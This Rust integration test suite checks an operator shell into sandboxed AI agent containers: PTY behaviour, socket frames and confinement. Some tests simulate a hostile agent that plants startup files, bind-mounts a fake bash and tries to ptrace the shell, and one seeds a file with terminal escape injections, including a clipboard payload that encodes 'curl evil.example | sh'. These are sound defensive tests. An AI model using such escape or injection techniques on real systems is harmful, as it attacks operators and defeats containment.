//! `hive-c0re shell NAME` end to end: the CLI on a real PTY (as an operator's
//! terminal), host.sock's `shell` frames, and the shell's processes on the host.
//!
//! Agents run a stand-in harness that only sleeps. The nspawn variants need
//! root and systemd-nspawn; without them they print why and pass.

mod common;

use std::io::{Read, Write};
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Child, ExitStatus, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use common::{Conn, Opts, TestHive, pids_running};
use hive_sh4re::shell::Frame;

/// A hive whose agents' harness only sleeps (from the returned dir), with alice running.
fn hive_with_alice(runtime: &'static str) -> (TestHive, tempfile::TempDir) {
    let (hive, bin) = stand_in_hive(runtime, false);
    hive.ok(&["spawn", "alice"]);
    hive.wait_for("alice to run", 30, |h| {
        h.row("alice").is_some_and(|r| r["running"] == true)
    });
    (hive, bin)
}

/// A hive whose agents' harness only sleeps (from the returned dir), with or without its manager.
fn stand_in_hive(runtime: &'static str, manager: bool) -> (TestHive, tempfile::TempDir) {
    stand_in_hive_with(runtime, manager, "#!/bin/sh\nexec sleep 100000\n")
}

/// A hive whose agents' harness is `script` (from the returned dir).
fn stand_in_hive_with(
    runtime: &'static str,
    manager: bool,
    script: &str,
) -> (TestHive, tempfile::TempDir) {
    let bin = tempfile::Builder::new()
        .prefix("hive-shell-bin-")
        .tempdir()
        .unwrap();
    common::searchable(bin.path());
    for harness in ["hive-ag3nt", "hive-m1nd"] {
        common::write_exe(&bin.path().join(harness), script);
    }
    let mut opts = Opts {
        runtime,
        ..Opts::default()
    };
    opts.env = vec![
        ("HIVE_BIN_DIR".into(), bin.path().display().to_string()),
        ("HIVE_CLAUDE_BIN".into(), "/bin/false".into()),
    ];
    if manager {
        opts.args.retain(|a| a != "--no-manager");
    }
    (TestHive::start_with(opts), bin)
}

/// True where the nspawn runtime can run; prints why not otherwise.
fn nspawn_ready() -> bool {
    if !nix::unistd::geteuid().is_root() || common::which("systemd-nspawn").is_none() {
        eprintln!("skipped: the nspawn runtime needs root and systemd-nspawn");
        return false;
    }
    true
}

/// `hive-c0re ARGS` with a PTY as its terminal (its own session, the PTY as controlling tty).
struct PtyCli {
    child: Child,
    master: std::fs::File,
    out: Arc<Mutex<Vec<u8>>>,
}

impl PtyCli {
    fn spawn(hive: &TestHive, args: &[&str]) -> Self {
        let ws = nix::pty::Winsize {
            ws_row: 30,
            ws_col: 100,
            ws_xpixel: 0,
            ws_ypixel: 0,
        };
        let pty = nix::pty::openpty(Some(&ws), None).unwrap();
        for fd in [&pty.master, &pty.slave] {
            cloexec(fd);
        }
        let mut cmd = hive.command();
        cmd.args(args)
            .stdin(Stdio::from(pty.slave.try_clone().unwrap()))
            .stdout(Stdio::from(pty.slave.try_clone().unwrap()))
            .stderr(Stdio::from(pty.slave));
        // SAFETY: setsid and ioctl only, between fork and exec.
        unsafe {
            cmd.pre_exec(|| {
                if libc::setsid() < 0 || libc::ioctl(0, libc::TIOCSCTTY, 0) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
        let child = cmd.spawn().unwrap();
        drop(cmd);
        let master = std::fs::File::from(pty.master);
        let out = Arc::new(Mutex::new(Vec::new()));
        let (mut r, sink) = (master.try_clone().unwrap(), out.clone());
        std::thread::spawn(move || {
            let mut buf = [0u8; 4096];
            while let Ok(n) = r.read(&mut buf) {
                if n == 0 {
                    break;
                }
                sink.lock().unwrap().extend_from_slice(&buf[..n]);
            }
        });
        Self { child, master, out }
    }

    /// What the terminal showed so far, without escape sequences (bash's bracketed-paste mode and the like).
    fn text(&self) -> String {
        plain(&String::from_utf8_lossy(&self.out.lock().unwrap()))
    }

    fn type_in(&mut self, s: &str) {
        self.master.write_all(s.as_bytes()).unwrap();
    }

    /// Waits until the terminal shows something `done` accepts.
    fn wait_for(&self, what: &str, done: impl Fn(&str) -> bool) -> String {
        let deadline = Instant::now() + Duration::from_secs(20);
        loop {
            let t = self.text();
            if done(&t) {
                return t;
            }
            assert!(
                Instant::now() < deadline,
                "timed out waiting for {what}; the terminal shows:\n{t}"
            );
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    fn wait_exit(&mut self) -> ExitStatus {
        let deadline = Instant::now() + Duration::from_secs(20);
        loop {
            if let Some(st) = self.child.try_wait().unwrap() {
                return st;
            }
            assert!(
                Instant::now() < deadline,
                "hive-c0re shell did not exit:\n{}",
                self.text()
            );
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

impl Drop for PtyCli {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// True when a line ending with `command` is followed by exactly the lines `answer`.
fn follows(text: &str, command: &str, answer: &[&str]) -> bool {
    let lines: Vec<&str> = text.split('\n').map(|l| l.trim_matches('\r')).collect();
    lines.windows(answer.len() + 1).any(|w| {
        w[0].ends_with(command) && w[1..].iter().zip(answer).all(|(got, want)| got == want)
    })
}

/// `text` without CSI escape sequences (`ESC [ params final`).
fn plain(text: &str) -> String {
    let re = regex::Regex::new(r"\x1b\[[0-9;?]*[@-~]").unwrap();
    re.replace_all(text, "").into_owned()
}

fn cloexec(fd: &OwnedFd) {
    // SAFETY: F_SETFD on an fd we own.
    unsafe { libc::fcntl(fd.as_raw_fd(), libc::F_SETFD, libc::FD_CLOEXEC) };
}

/// A `sleep` argument that no other test uses, here or in a run of this
/// binary in another checkout at the same time: our process id and `tag`.
fn nap(tag: u32) -> String {
    format!("{}.{tag}", 987_000 + std::process::id())
}

fn status_field(pid: i32, key: &str) -> Option<String> {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .ok()?
        .lines()
        .find_map(|l| l.strip_prefix(key).map(|v| v.trim().to_owned()))
}

/// The real uid of a process as the host sees it.
fn host_uid(pid: i32) -> u32 {
    status_field(pid, "Uid:")
        .and_then(|v| v.split_whitespace().next()?.parse().ok())
        .unwrap_or_else(|| panic!("no Uid line for {pid}"))
}

fn parent(pid: i32) -> i32 {
    status_field(pid, "PPid:").unwrap().parse().unwrap()
}

/// Waits until `argv` runs on the host; returns its pids.
fn wait_running(argv: &[&str]) -> Vec<i32> {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let pids = pids_running(argv);
        if !pids.is_empty() {
            return pids;
        }
        assert!(Instant::now() < deadline, "{argv:?} never ran");
        std::thread::sleep(Duration::from_millis(20));
    }
}

fn wait_gone(pids: &[i32], what: &str) {
    let deadline = Instant::now() + Duration::from_secs(10);
    let alive = |p: &i32| status_field(*p, "State:").is_some_and(|s| !s.starts_with('Z'));
    while pids.iter().any(alive) {
        let left: Vec<_> = pids.iter().filter(|p| alive(p)).collect();
        assert!(
            Instant::now() < deadline,
            "{what} outlived its shell: {left:?}"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// The host pid of alice's stand-in harness (`sleep 100000`).
fn stand_in(hive: &TestHive) -> i32 {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let found = common::agent_pids(hive, "alice").into_iter().find(|p| {
            std::fs::read(format!("/proc/{p}/cmdline")).is_ok_and(|c| c == b"sleep\x00100000\x00")
        });
        if let Some(pid) = found {
            return pid;
        }
        assert!(Instant::now() < deadline, "no stand-in harness for alice");
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// The first host uid of alice's container, from the nspawn runtime's pid file.
fn uid_base(hive: &TestHive) -> u32 {
    let rec = std::fs::read_to_string(hive.run_dir().join("agents/alice.pid")).unwrap();
    rec.split_whitespace()
        .find_map(|kv| kv.strip_prefix("uid_base=")?.parse().ok())
        .expect("uid_base in the pid file")
}

/// `id -u` reads 0 in a container and the agent's own uid under the process
/// runtime, the shell's own process is the agent's range on the host under
/// nspawn, and the exit code is the shell's.
fn shell_through_a_pty(runtime: &'static str) {
    let started = Instant::now();
    let (hive, _bin) = hive_with_alice(runtime);
    let mut cli = PtyCli::spawn(&hive, &["shell", "alice"]);
    cli.wait_for("the prompt", |t| t.contains("# ") || t.contains("$ "));
    let expected = if runtime == "nspawn" {
        0
    } else {
        host_uid(stand_in(&hive))
    };
    cli.type_in("id -u\n");
    cli.wait_for("id -u's answer", |t| {
        follows(t, "id -u", &[&expected.to_string()])
    });
    cli.type_in("pwd; stty size\n");
    let state = if runtime == "nspawn" {
        "/state".to_owned()
    } else {
        hive.state_dir()
            .join("agents/alice/state")
            .display()
            .to_string()
    };
    cli.wait_for("the state dir and the terminal's size", |t| {
        follows(t, "pwd; stty size", &[&state, "30 100"])
    });
    if runtime == "nspawn" {
        let naptime = nap(651);
        cli.type_in(&format!("sleep {naptime}\n"));
        let sleeps = wait_running(&["sleep", &naptime]);
        let base = uid_base(&hive);
        for pid in [sleeps[0], parent(sleeps[0])] {
            let uid = host_uid(pid);
            assert!(
                uid >= 65536 && uid >= base && uid < base + 65536,
                "process {pid} of the shell runs as host uid {uid}, outside the agent's range {base}.."
            );
        }
        eprintln!(
            "the shell (host pid {}) and its child run as host uid {}; inside, id -u is 0",
            parent(sleeps[0]),
            host_uid(sleeps[0])
        );
        cli.type_in("\x03");
        wait_gone(&sleeps, "a Ctrl-C'd sleep");
    }
    cli.type_in("id -u; exit\n");
    let st = cli.wait_exit();
    assert_eq!(st.code(), Some(0), "{}", cli.text());
    // The local terminal was put back: the CLI left it in canonical mode with echo.
    let attrs = nix::sys::termios::tcgetattr(&cli.master).unwrap();
    assert!(
        attrs
            .local_flags
            .contains(nix::sys::termios::LocalFlags::ICANON | nix::sys::termios::LocalFlags::ECHO)
    );
    piped_input_runs_and_its_end_ends_the_shell(&hive);
    eprintln!(
        "{runtime}: shell session end to end in {:?}",
        started.elapsed()
    );
}

/// `hive-c0re shell alice` started with `input` piped in, its stdin closed.
fn piped_shell_started(hive: &TestHive, input: &[u8]) -> std::process::Child {
    let mut child = hive
        .command()
        .args(["shell", "alice"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    stdin.write_all(input).unwrap();
    drop(stdin);
    child
}

/// `hive-c0re shell alice` with `input` piped in, run to its end.
fn piped_shell(hive: &TestHive, input: &[u8]) -> std::process::Output {
    piped_shell_started(hive, input).wait_with_output().unwrap()
}

/// `echo CMD | hive-c0re shell alice`: the input is all there before the
/// shell has set up its terminal, which is when a single Ctrl-D for its end
/// got lost and the CLI waited forever. Several rounds, as that was a race.
fn piped_input_runs_and_its_end_ends_the_shell(hive: &TestHive) {
    for round in 0..3 {
        let mut child =
            piped_shell_started(hive, format!("echo piped-$(({round}+40))\n").as_bytes());
        let deadline = Instant::now() + Duration::from_secs(20);
        let st = loop {
            if let Some(st) = child.try_wait().unwrap() {
                break st;
            }
            if Instant::now() > deadline {
                let _ = child.kill();
                let _ = child.wait();
                panic!("round {round}: the shell did not end when its piped input did");
            }
            std::thread::sleep(Duration::from_millis(50));
        };
        let mut out = String::new();
        child
            .stdout
            .take()
            .unwrap()
            .read_to_string(&mut out)
            .unwrap();
        assert_eq!(st.code(), Some(0), "round {round}: {out}");
        assert!(
            plain(&out).contains(&format!("piped-{}", round + 40)),
            "round {round}: {out}"
        );
    }
}

#[test]
fn shell_through_a_pty_process_runtime() {
    shell_through_a_pty("process");
}

#[test]
fn shell_through_a_pty_nspawn_runtime() {
    if nspawn_ready() {
        shell_through_a_pty("nspawn");
    }
}

/// A CLI killed with SIGKILL takes its shell's whole session along: the shell,
/// a foreground job, a background job.
fn a_lost_client_ends_the_session(runtime: &'static str) {
    let (hive, _bin) = hive_with_alice(runtime);
    let mut cli = PtyCli::spawn(&hive, &["shell", "alice"]);
    cli.wait_for("the prompt", |t| t.contains("# ") || t.contains("$ "));
    // Each runtime's variant its own numbers: the two run at once.
    let (bg, fg) = if runtime == "nspawn" {
        (nap(662), nap(663))
    } else {
        (nap(652), nap(653))
    };
    cli.type_in(&format!("sleep {bg} & sleep {fg}\n"));
    let mut pids = wait_running(&["sleep", &bg]);
    pids.extend(wait_running(&["sleep", &fg]));
    pids.push(parent(pids[0]));
    cli.child.kill().unwrap();
    cli.child.wait().unwrap();
    wait_gone(&pids, "the shell's session");
    // The daemon is fine and alice too: a new shell opens.
    let mut again = PtyCli::spawn(&hive, &["shell", "alice"]);
    again.type_in("exit 4\n");
    assert_eq!(again.wait_exit().code(), Some(4), "{}", again.text());
}

#[test]
fn a_lost_client_ends_the_session_process_runtime() {
    a_lost_client_ends_the_session("process");
}

#[test]
fn a_lost_client_ends_the_session_nspawn_runtime() {
    if nspawn_ready() {
        a_lost_client_ends_the_session("nspawn");
    }
}

/// What confines a process, as the host sees it: its uid, capabilities,
/// no_new_privs, seccomp filters and cgroups.
fn confinement(pid: i32) -> String {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let keys = [
        "Uid:",
        "CapEff:",
        "CapBnd:",
        "NoNewPrivs:",
        "Seccomp:",
        "Seccomp_filters:",
    ];
    let mut out: Vec<String> = status
        .lines()
        .filter(|l| keys.iter().any(|k| l.starts_with(k)))
        .map(str::to_owned)
        .collect();
    out.push(std::fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap());
    out.join("\n")
}

/// The attack of a hostile agent on the operator's shell: it plants startup
/// files in its home for the shell to run, and counts on the shell being less
/// confined than itself. The shell must run none of them, be exactly as
/// confined as the agent's harness (a process it starts, looked at from the
/// host), and take along even a double-forked, setsid'd process when it ends.
fn the_operator_shell_is_no_way_out(runtime: &'static str) {
    let (hive, _bin) = hive_with_alice(runtime);
    let home = hive.state_dir().join("agents/alice/state");
    for rc in [
        ".bash_profile",
        ".bash_login",
        ".profile",
        ".bashrc",
        ".bash_logout",
    ] {
        std::fs::write(
            home.join(rc),
            format!("touch \"$HIVE_AGENT_STATE/ran{rc}\"\n"),
        )
        .unwrap();
    }
    std::fs::write(home.join(".inputrc"), "set completion-ignore-case on\n").unwrap();
    let harness = confinement(stand_in(&hive));

    // Each runtime's variant its own number: the two run at once.
    let naptime = if runtime == "nspawn" {
        nap(655)
    } else {
        nap(654)
    };
    let mut cli = PtyCli::spawn(&hive, &["shell", "alice"]);
    cli.wait_for("the prompt", |t| t.contains("# ") || t.contains("$ "));
    cli.type_in(&format!(
        "bind -v | grep -c 'completion-ignore-case on'; (setsid sleep {naptime} &)\n"
    ));
    let escaped = wait_running(&["sleep", &naptime]);
    assert_eq!(
        confinement(escaped[0]),
        harness,
        "a process of the operator's shell is confined otherwise than the agent's harness"
    );
    cli.wait_for("the readline check", |t| {
        follows(t, &format!("(setsid sleep {naptime} &)"), &["0"])
    });
    cli.type_in("exit\n");
    assert_eq!(cli.wait_exit().code(), Some(0), "{}", cli.text());
    wait_gone(&escaped, "a double-forked, setsid'd process");
    let ran: Vec<_> = std::fs::read_dir(&home)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("ran"))
        .collect();
    assert!(
        ran.is_empty(),
        "the shell ran the agent's startup files: {ran:?}"
    );
}

#[test]
fn the_operator_shell_is_no_way_out_process_runtime() {
    the_operator_shell_is_no_way_out("process");
}

#[test]
fn the_operator_shell_is_no_way_out_nspawn_runtime() {
    if nspawn_ready() {
        the_operator_shell_is_no_way_out("nspawn");
    }
}

/// The attack of a hostile agent on the operator's shell through its mount
/// namespace, which the shell enters: the agent binds a program of its own
/// over bash, sh, setpriv and unshare, and the shell ran it on the
/// operator's terminal (a fake prompt reads what is typed); or it attaches
/// to the process the shell begins in, which holds CAP_SYS_ADMIN to make the
/// shell's PID namespace, to mount through it. The container has neither
/// CAP_SYS_ADMIN nor CAP_SYS_PTRACE: both are refused, and the shell is the host's.
#[test]
fn an_agent_cannot_mount_its_programs_over_the_operators_shell_nspawn_runtime() {
    if !nspawn_ready() {
        return;
    }
    let script = r#"#!/bin/sh
S="$HIVE_AGENT_STATE"
printf '#!/bin/sh
echo PLANTED
exec sleep 100
' > "$S/fake"
chmod +x "$S/fake"
for p in /usr/bin/bash /usr/bin/dash /usr/bin/setpriv /usr/bin/unshare; do
  if mount --bind "$S/fake" "$p" 2>>"$S/mount.err"; then echo "$p" >> "$S/mounted"; fi
done
touch "$S/tried"
# And through the process the shell begins in, which makes its PID namespace:
# attached with ptrace, it could be made to mount.
/usr/bin/python3 - <<'PY' &
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
out = os.environ["HIVE_AGENT_STATE"] + "/ptrace"
end = time.time() + 120
while time.time() < end:
    for p in filter(str.isdigit, os.listdir("/proc")):
        try:
            comm = open(f"/proc/{p}/comm").read().strip()
        except OSError:
            continue
        if comm == "unshare":
            r = libc.ptrace(16, int(p), 0, 0)
            with open(out, "a") as f:
                f.write("attached\n" if r == 0 else f"refused {ctypes.get_errno()}\n")
            if r == 0:
                libc.ptrace(17, int(p), 0, 0)
            raise SystemExit
    time.sleep(0.05)
PY
exec sleep 100000
"#;
    let (hive, _bin) = stand_in_hive_with("nspawn", false, script);
    hive.ok(&["spawn", "alice"]);
    let state = hive.state_dir().join("agents/alice/state");
    hive.wait_for("alice's mounts tried", 30, |_| state.join("tried").exists());
    let mounted = std::fs::read_to_string(state.join("mounted")).unwrap_or_default();
    assert!(mounted.is_empty(), "the agent mounted over {mounted}");
    // Long enough for the agent to find the shell's first process.
    let out = piped_shell(&hive, b"sleep 2; echo real-$((6*7))\n");
    let text = plain(&String::from_utf8_lossy(&out.stdout));
    assert!(
        text.contains("real-42"),
        "{text}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!text.contains("PLANTED"), "{text}");
    let traced = std::fs::read_to_string(state.join("ptrace")).unwrap_or_default();
    assert!(
        traced.starts_with("refused"),
        "ptrace of the shell's first process: {traced:?}"
    );
}

/// The attack of a hostile agent on the operator's terminal: it writes a file
/// the operator will `cat` in its shell, full of what terminals obey beyond
/// colours: OSC 52 sets the clipboard to a command to paste, OSC 8 hides
/// where a link goes, OSC 0/1/2 retitle the window, DCS (tmux passthrough),
/// APC, PM and SOS strings, the same in C1 form; queries the terminal would
/// answer by typing (the title, the cursor's place, its attributes); and
/// modes left on (alternate screen, mouse tracking, a scroll region) after
/// the shell ends. Text and colours still come through; the terminal gets
/// its modes back.
#[test]
fn an_agents_file_sets_no_clipboard_link_or_title_on_the_operators_terminal() {
    let (hive, _bin) = hive_with_alice("process");
    let home = hive.state_dir().join("agents/alice/state");
    let evil = "visible-\x1b[31mred\x1b[0m-text\r\n\
        \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07\
        \x1b]8;;https://evil.example/\x1b\\innocent-link\x1b]8;;\x1b\\\
        \x1b]0;t0\x07\x1b]1;t1\x07\x1b]2;t2\x1b\\\
        \x1bPtmux;\x1b\x1b]52;c;cGFzc3RocnU=\x07\x1b\\\
        \x1b_Gf=100;AAAA\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\\
        \u{9d}52;c;YzE=\x07\
        \x1b[21t\x1b[6n\x1b[c\x1b[>q\x1b[?2004$p\
        \x1b[2h\x1b[12l\x1b[?2l\
        \x1b[?1049h\x1b[?1000h\x1b[?2004h\x1b[?25l\x1b[3;10r\
        the-end\r\n";
    std::fs::write(home.join("notes.txt"), evil).unwrap();

    let out = piped_shell(&hive, b"cat notes.txt; exit\n");
    let shown = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{shown:?} {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        shown.contains("visible-\x1b[31mred\x1b[0m-text"),
        "{shown:?}"
    );
    assert!(shown.contains("innocent-link"), "{shown:?}");
    assert!(shown.contains("the-end"), "{shown:?}");
    for banned in [
        "\x1b]52",
        "\x1b]8;",
        "\x1b]0;",
        "\x1b]1;",
        "\x1b]2;",
        "\x1bP",
        "\x1b_",
        "\x1b^",
        "\x1bX",
        "\u{9d}",
        "Y3VybC",
        "cGFzc3RocnU",
        "YzE=",
        "evil.example",
        "\x1b[21t",
        "\x1b[6n",
        "\x1b[c",
        "\x1b[>q",
        "\x1b[?2004$p",
        "\x1b[2h",
        "\x1b[12l",
        "\x1b[?2l",
    ] {
        assert!(
            !shown.contains(banned),
            "{banned:?} reached the terminal: {shown:?}"
        );
    }

    // On a terminal, the modes the file turned on are off again after the shell.
    let mut cli = PtyCli::spawn(&hive, &["shell", "alice"]);
    cli.wait_for("the prompt", |t| t.contains("# ") || t.contains("$ "));
    cli.type_in("cat notes.txt; exit\n");
    assert_eq!(cli.wait_exit().code(), Some(0), "{}", cli.text());
    let shown = String::from_utf8_lossy(&cli.out.lock().unwrap()).into_owned();
    let tail = &shown[shown.rfind("the-end").expect("the file was shown")..];
    for reset in [
        "\x1b[?1049l",
        "\x1b[?1000l",
        "\x1b[?2004l",
        "\x1b[?25h",
        "\x1b[0m",
        "\x1b[r",
    ] {
        assert!(
            tail.contains(reset),
            "no {reset:?} after the shell: {tail:?}"
        );
    }
    assert!(!shown.contains("\x1b]52"), "{shown:?}");
}

/// The frames on host.sock, as a script would speak them: ack, data, resize, exit.
#[test]
fn shell_frames_on_host_sock() {
    let (hive, _bin) = hive_with_alice("process");
    let mut c = Conn::open(&hive.sock());
    c.send(r#"{"cmd":"shell","name":"alice","rows":20,"cols":70,"term":"dumb"}"#);
    assert_eq!(c.recv(), "{\"version\":1,\"ok\":true}\n");
    c.send_bytes(&Frame::data(b"stty size; echo TERM=$TERM\n"));
    let mut seen = String::new();
    read_frames(&mut c, &mut seen, "TERM=dumb\r\n");
    assert!(seen.contains("20 70\r\n"), "{seen:?}");
    c.send_bytes(
        &Frame::Resize {
            rows: 41,
            cols: 101,
        }
        .encode(),
    );
    c.send_bytes(&Frame::data(b"stty size\n"));
    read_frames(&mut c, &mut seen, "41 101\r\n");
    c.send_bytes(&Frame::data(b"exit 5\n"));
    assert_eq!(read_frames(&mut c, &mut seen, "\u{0}never"), Some(5));
    // The daemon closes after the exit frame.
    assert!(Frame::read_from(&mut c.stream).unwrap().is_none());
}

/// Reads data frames into `seen` until it holds `until`; an exit frame's code ends it early.
fn read_frames(c: &mut Conn, seen: &mut String, until: &str) -> Option<i32> {
    while !seen.contains(until) {
        match Frame::read_from(&mut c.stream).unwrap() {
            Some(Frame::Data(d)) => seen.push_str(&String::from_utf8_lossy(&d)),
            Some(Frame::Exit(code)) => return Some(code),
            other => panic!("unexpected {other:?} after {seen:?}"),
        }
    }
    None
}

/// Unknown agent and stopped agent: the daemon's sentences, exit 1, terminal untouched.
#[test]
fn shell_refusals_are_sentences() {
    let (hive, _bin) = hive_with_alice("process");
    let out = hive.cli(&["shell", "ghost"]);
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(
        String::from_utf8_lossy(&out.stderr).trim(),
        "hive-c0re: agent \"ghost\" is not managed by this hive: see hive-c0re status"
    );
    hive.ok(&["kill", "alice"]);
    let out = hive.cli(&["shell", "alice"]);
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(
        String::from_utf8_lossy(&out.stderr).trim(),
        "hive-c0re: alice is not running: start it with hive-c0re start alice"
    );
    let v = hive.request(serde_json::json!({"cmd": "shell", "name": "alice"}));
    assert_eq!(v["ok"], false);
    assert_eq!(
        v["error"],
        "alice is not running: start it with hive-c0re start alice"
    );
    assert!(Path::new(&hive.sock()).exists());
}

/// The manager's documented flow under nspawn: a config repo made while the
/// manager runs (`init-config`, the code path of its `request_init_config`)
/// shows up in its container at once, writable by its root, so it can edit
/// and commit; and it sees the config repos only, no agent's state.
#[test]
fn nspawn_manager_commits_in_a_repo_made_while_it_runs() {
    if !nspawn_ready() {
        return;
    }
    let (hive, _bin) = stand_in_hive("nspawn", true);
    hive.wait_for("the manager to run", 30, |h| {
        h.row("manager").is_some_and(|r| r["running"] == true)
    });
    let out = hive.ok(&["init-config", "dave"]);
    let repo = hive.state_dir().join("configs/dave");
    assert!(out.contains(&repo.display().to_string()), "{out}");
    assert!(
        std::fs::symlink_metadata(hive.state_dir().join("agents/dave/config"))
            .unwrap()
            .is_symlink(),
        "the old path links to the repo"
    );

    let mut cli = PtyCli::spawn(&hive, &["shell", "manager"]);
    cli.wait_for("the prompt", |t| t.contains("# ") || t.contains("$ "));
    let edit = "echo '# reviewed' >> /hive/agents/dave/agent.toml && git -C /hive/agents/dave -c user.name=m -c user.email=m@h commit -qam edit && echo committed";
    cli.type_in(&format!("{edit}\n"));
    cli.wait_for("the commit", |t| follows(t, edit, &["committed"]));
    cli.type_in("echo $(ls -A /hive/agents)\n");
    cli.wait_for("the repos", |t| {
        follows(t, "echo $(ls -A /hive/agents)", &["dave manager"])
    });
    cli.type_in("exit\n");
    assert_eq!(cli.wait_exit().code(), Some(0), "{}", cli.text());

    let git = |args: &[&str]| common::git(&repo, args).trim().to_owned();
    assert_eq!(git(&["log", "-1", "--format=%an %s"]), "m edit");
    let head = git(&["rev-parse", "HEAD"]);
    // The operator's side of the flow takes the manager's commit.
    hive.ok(&["request-spawn", "dave"]);
    let v = hive.request(serde_json::json!({"cmd": "pending"}));
    assert_eq!(v["approvals"][0]["commit_ref"], head.as_str(), "{v}");
}
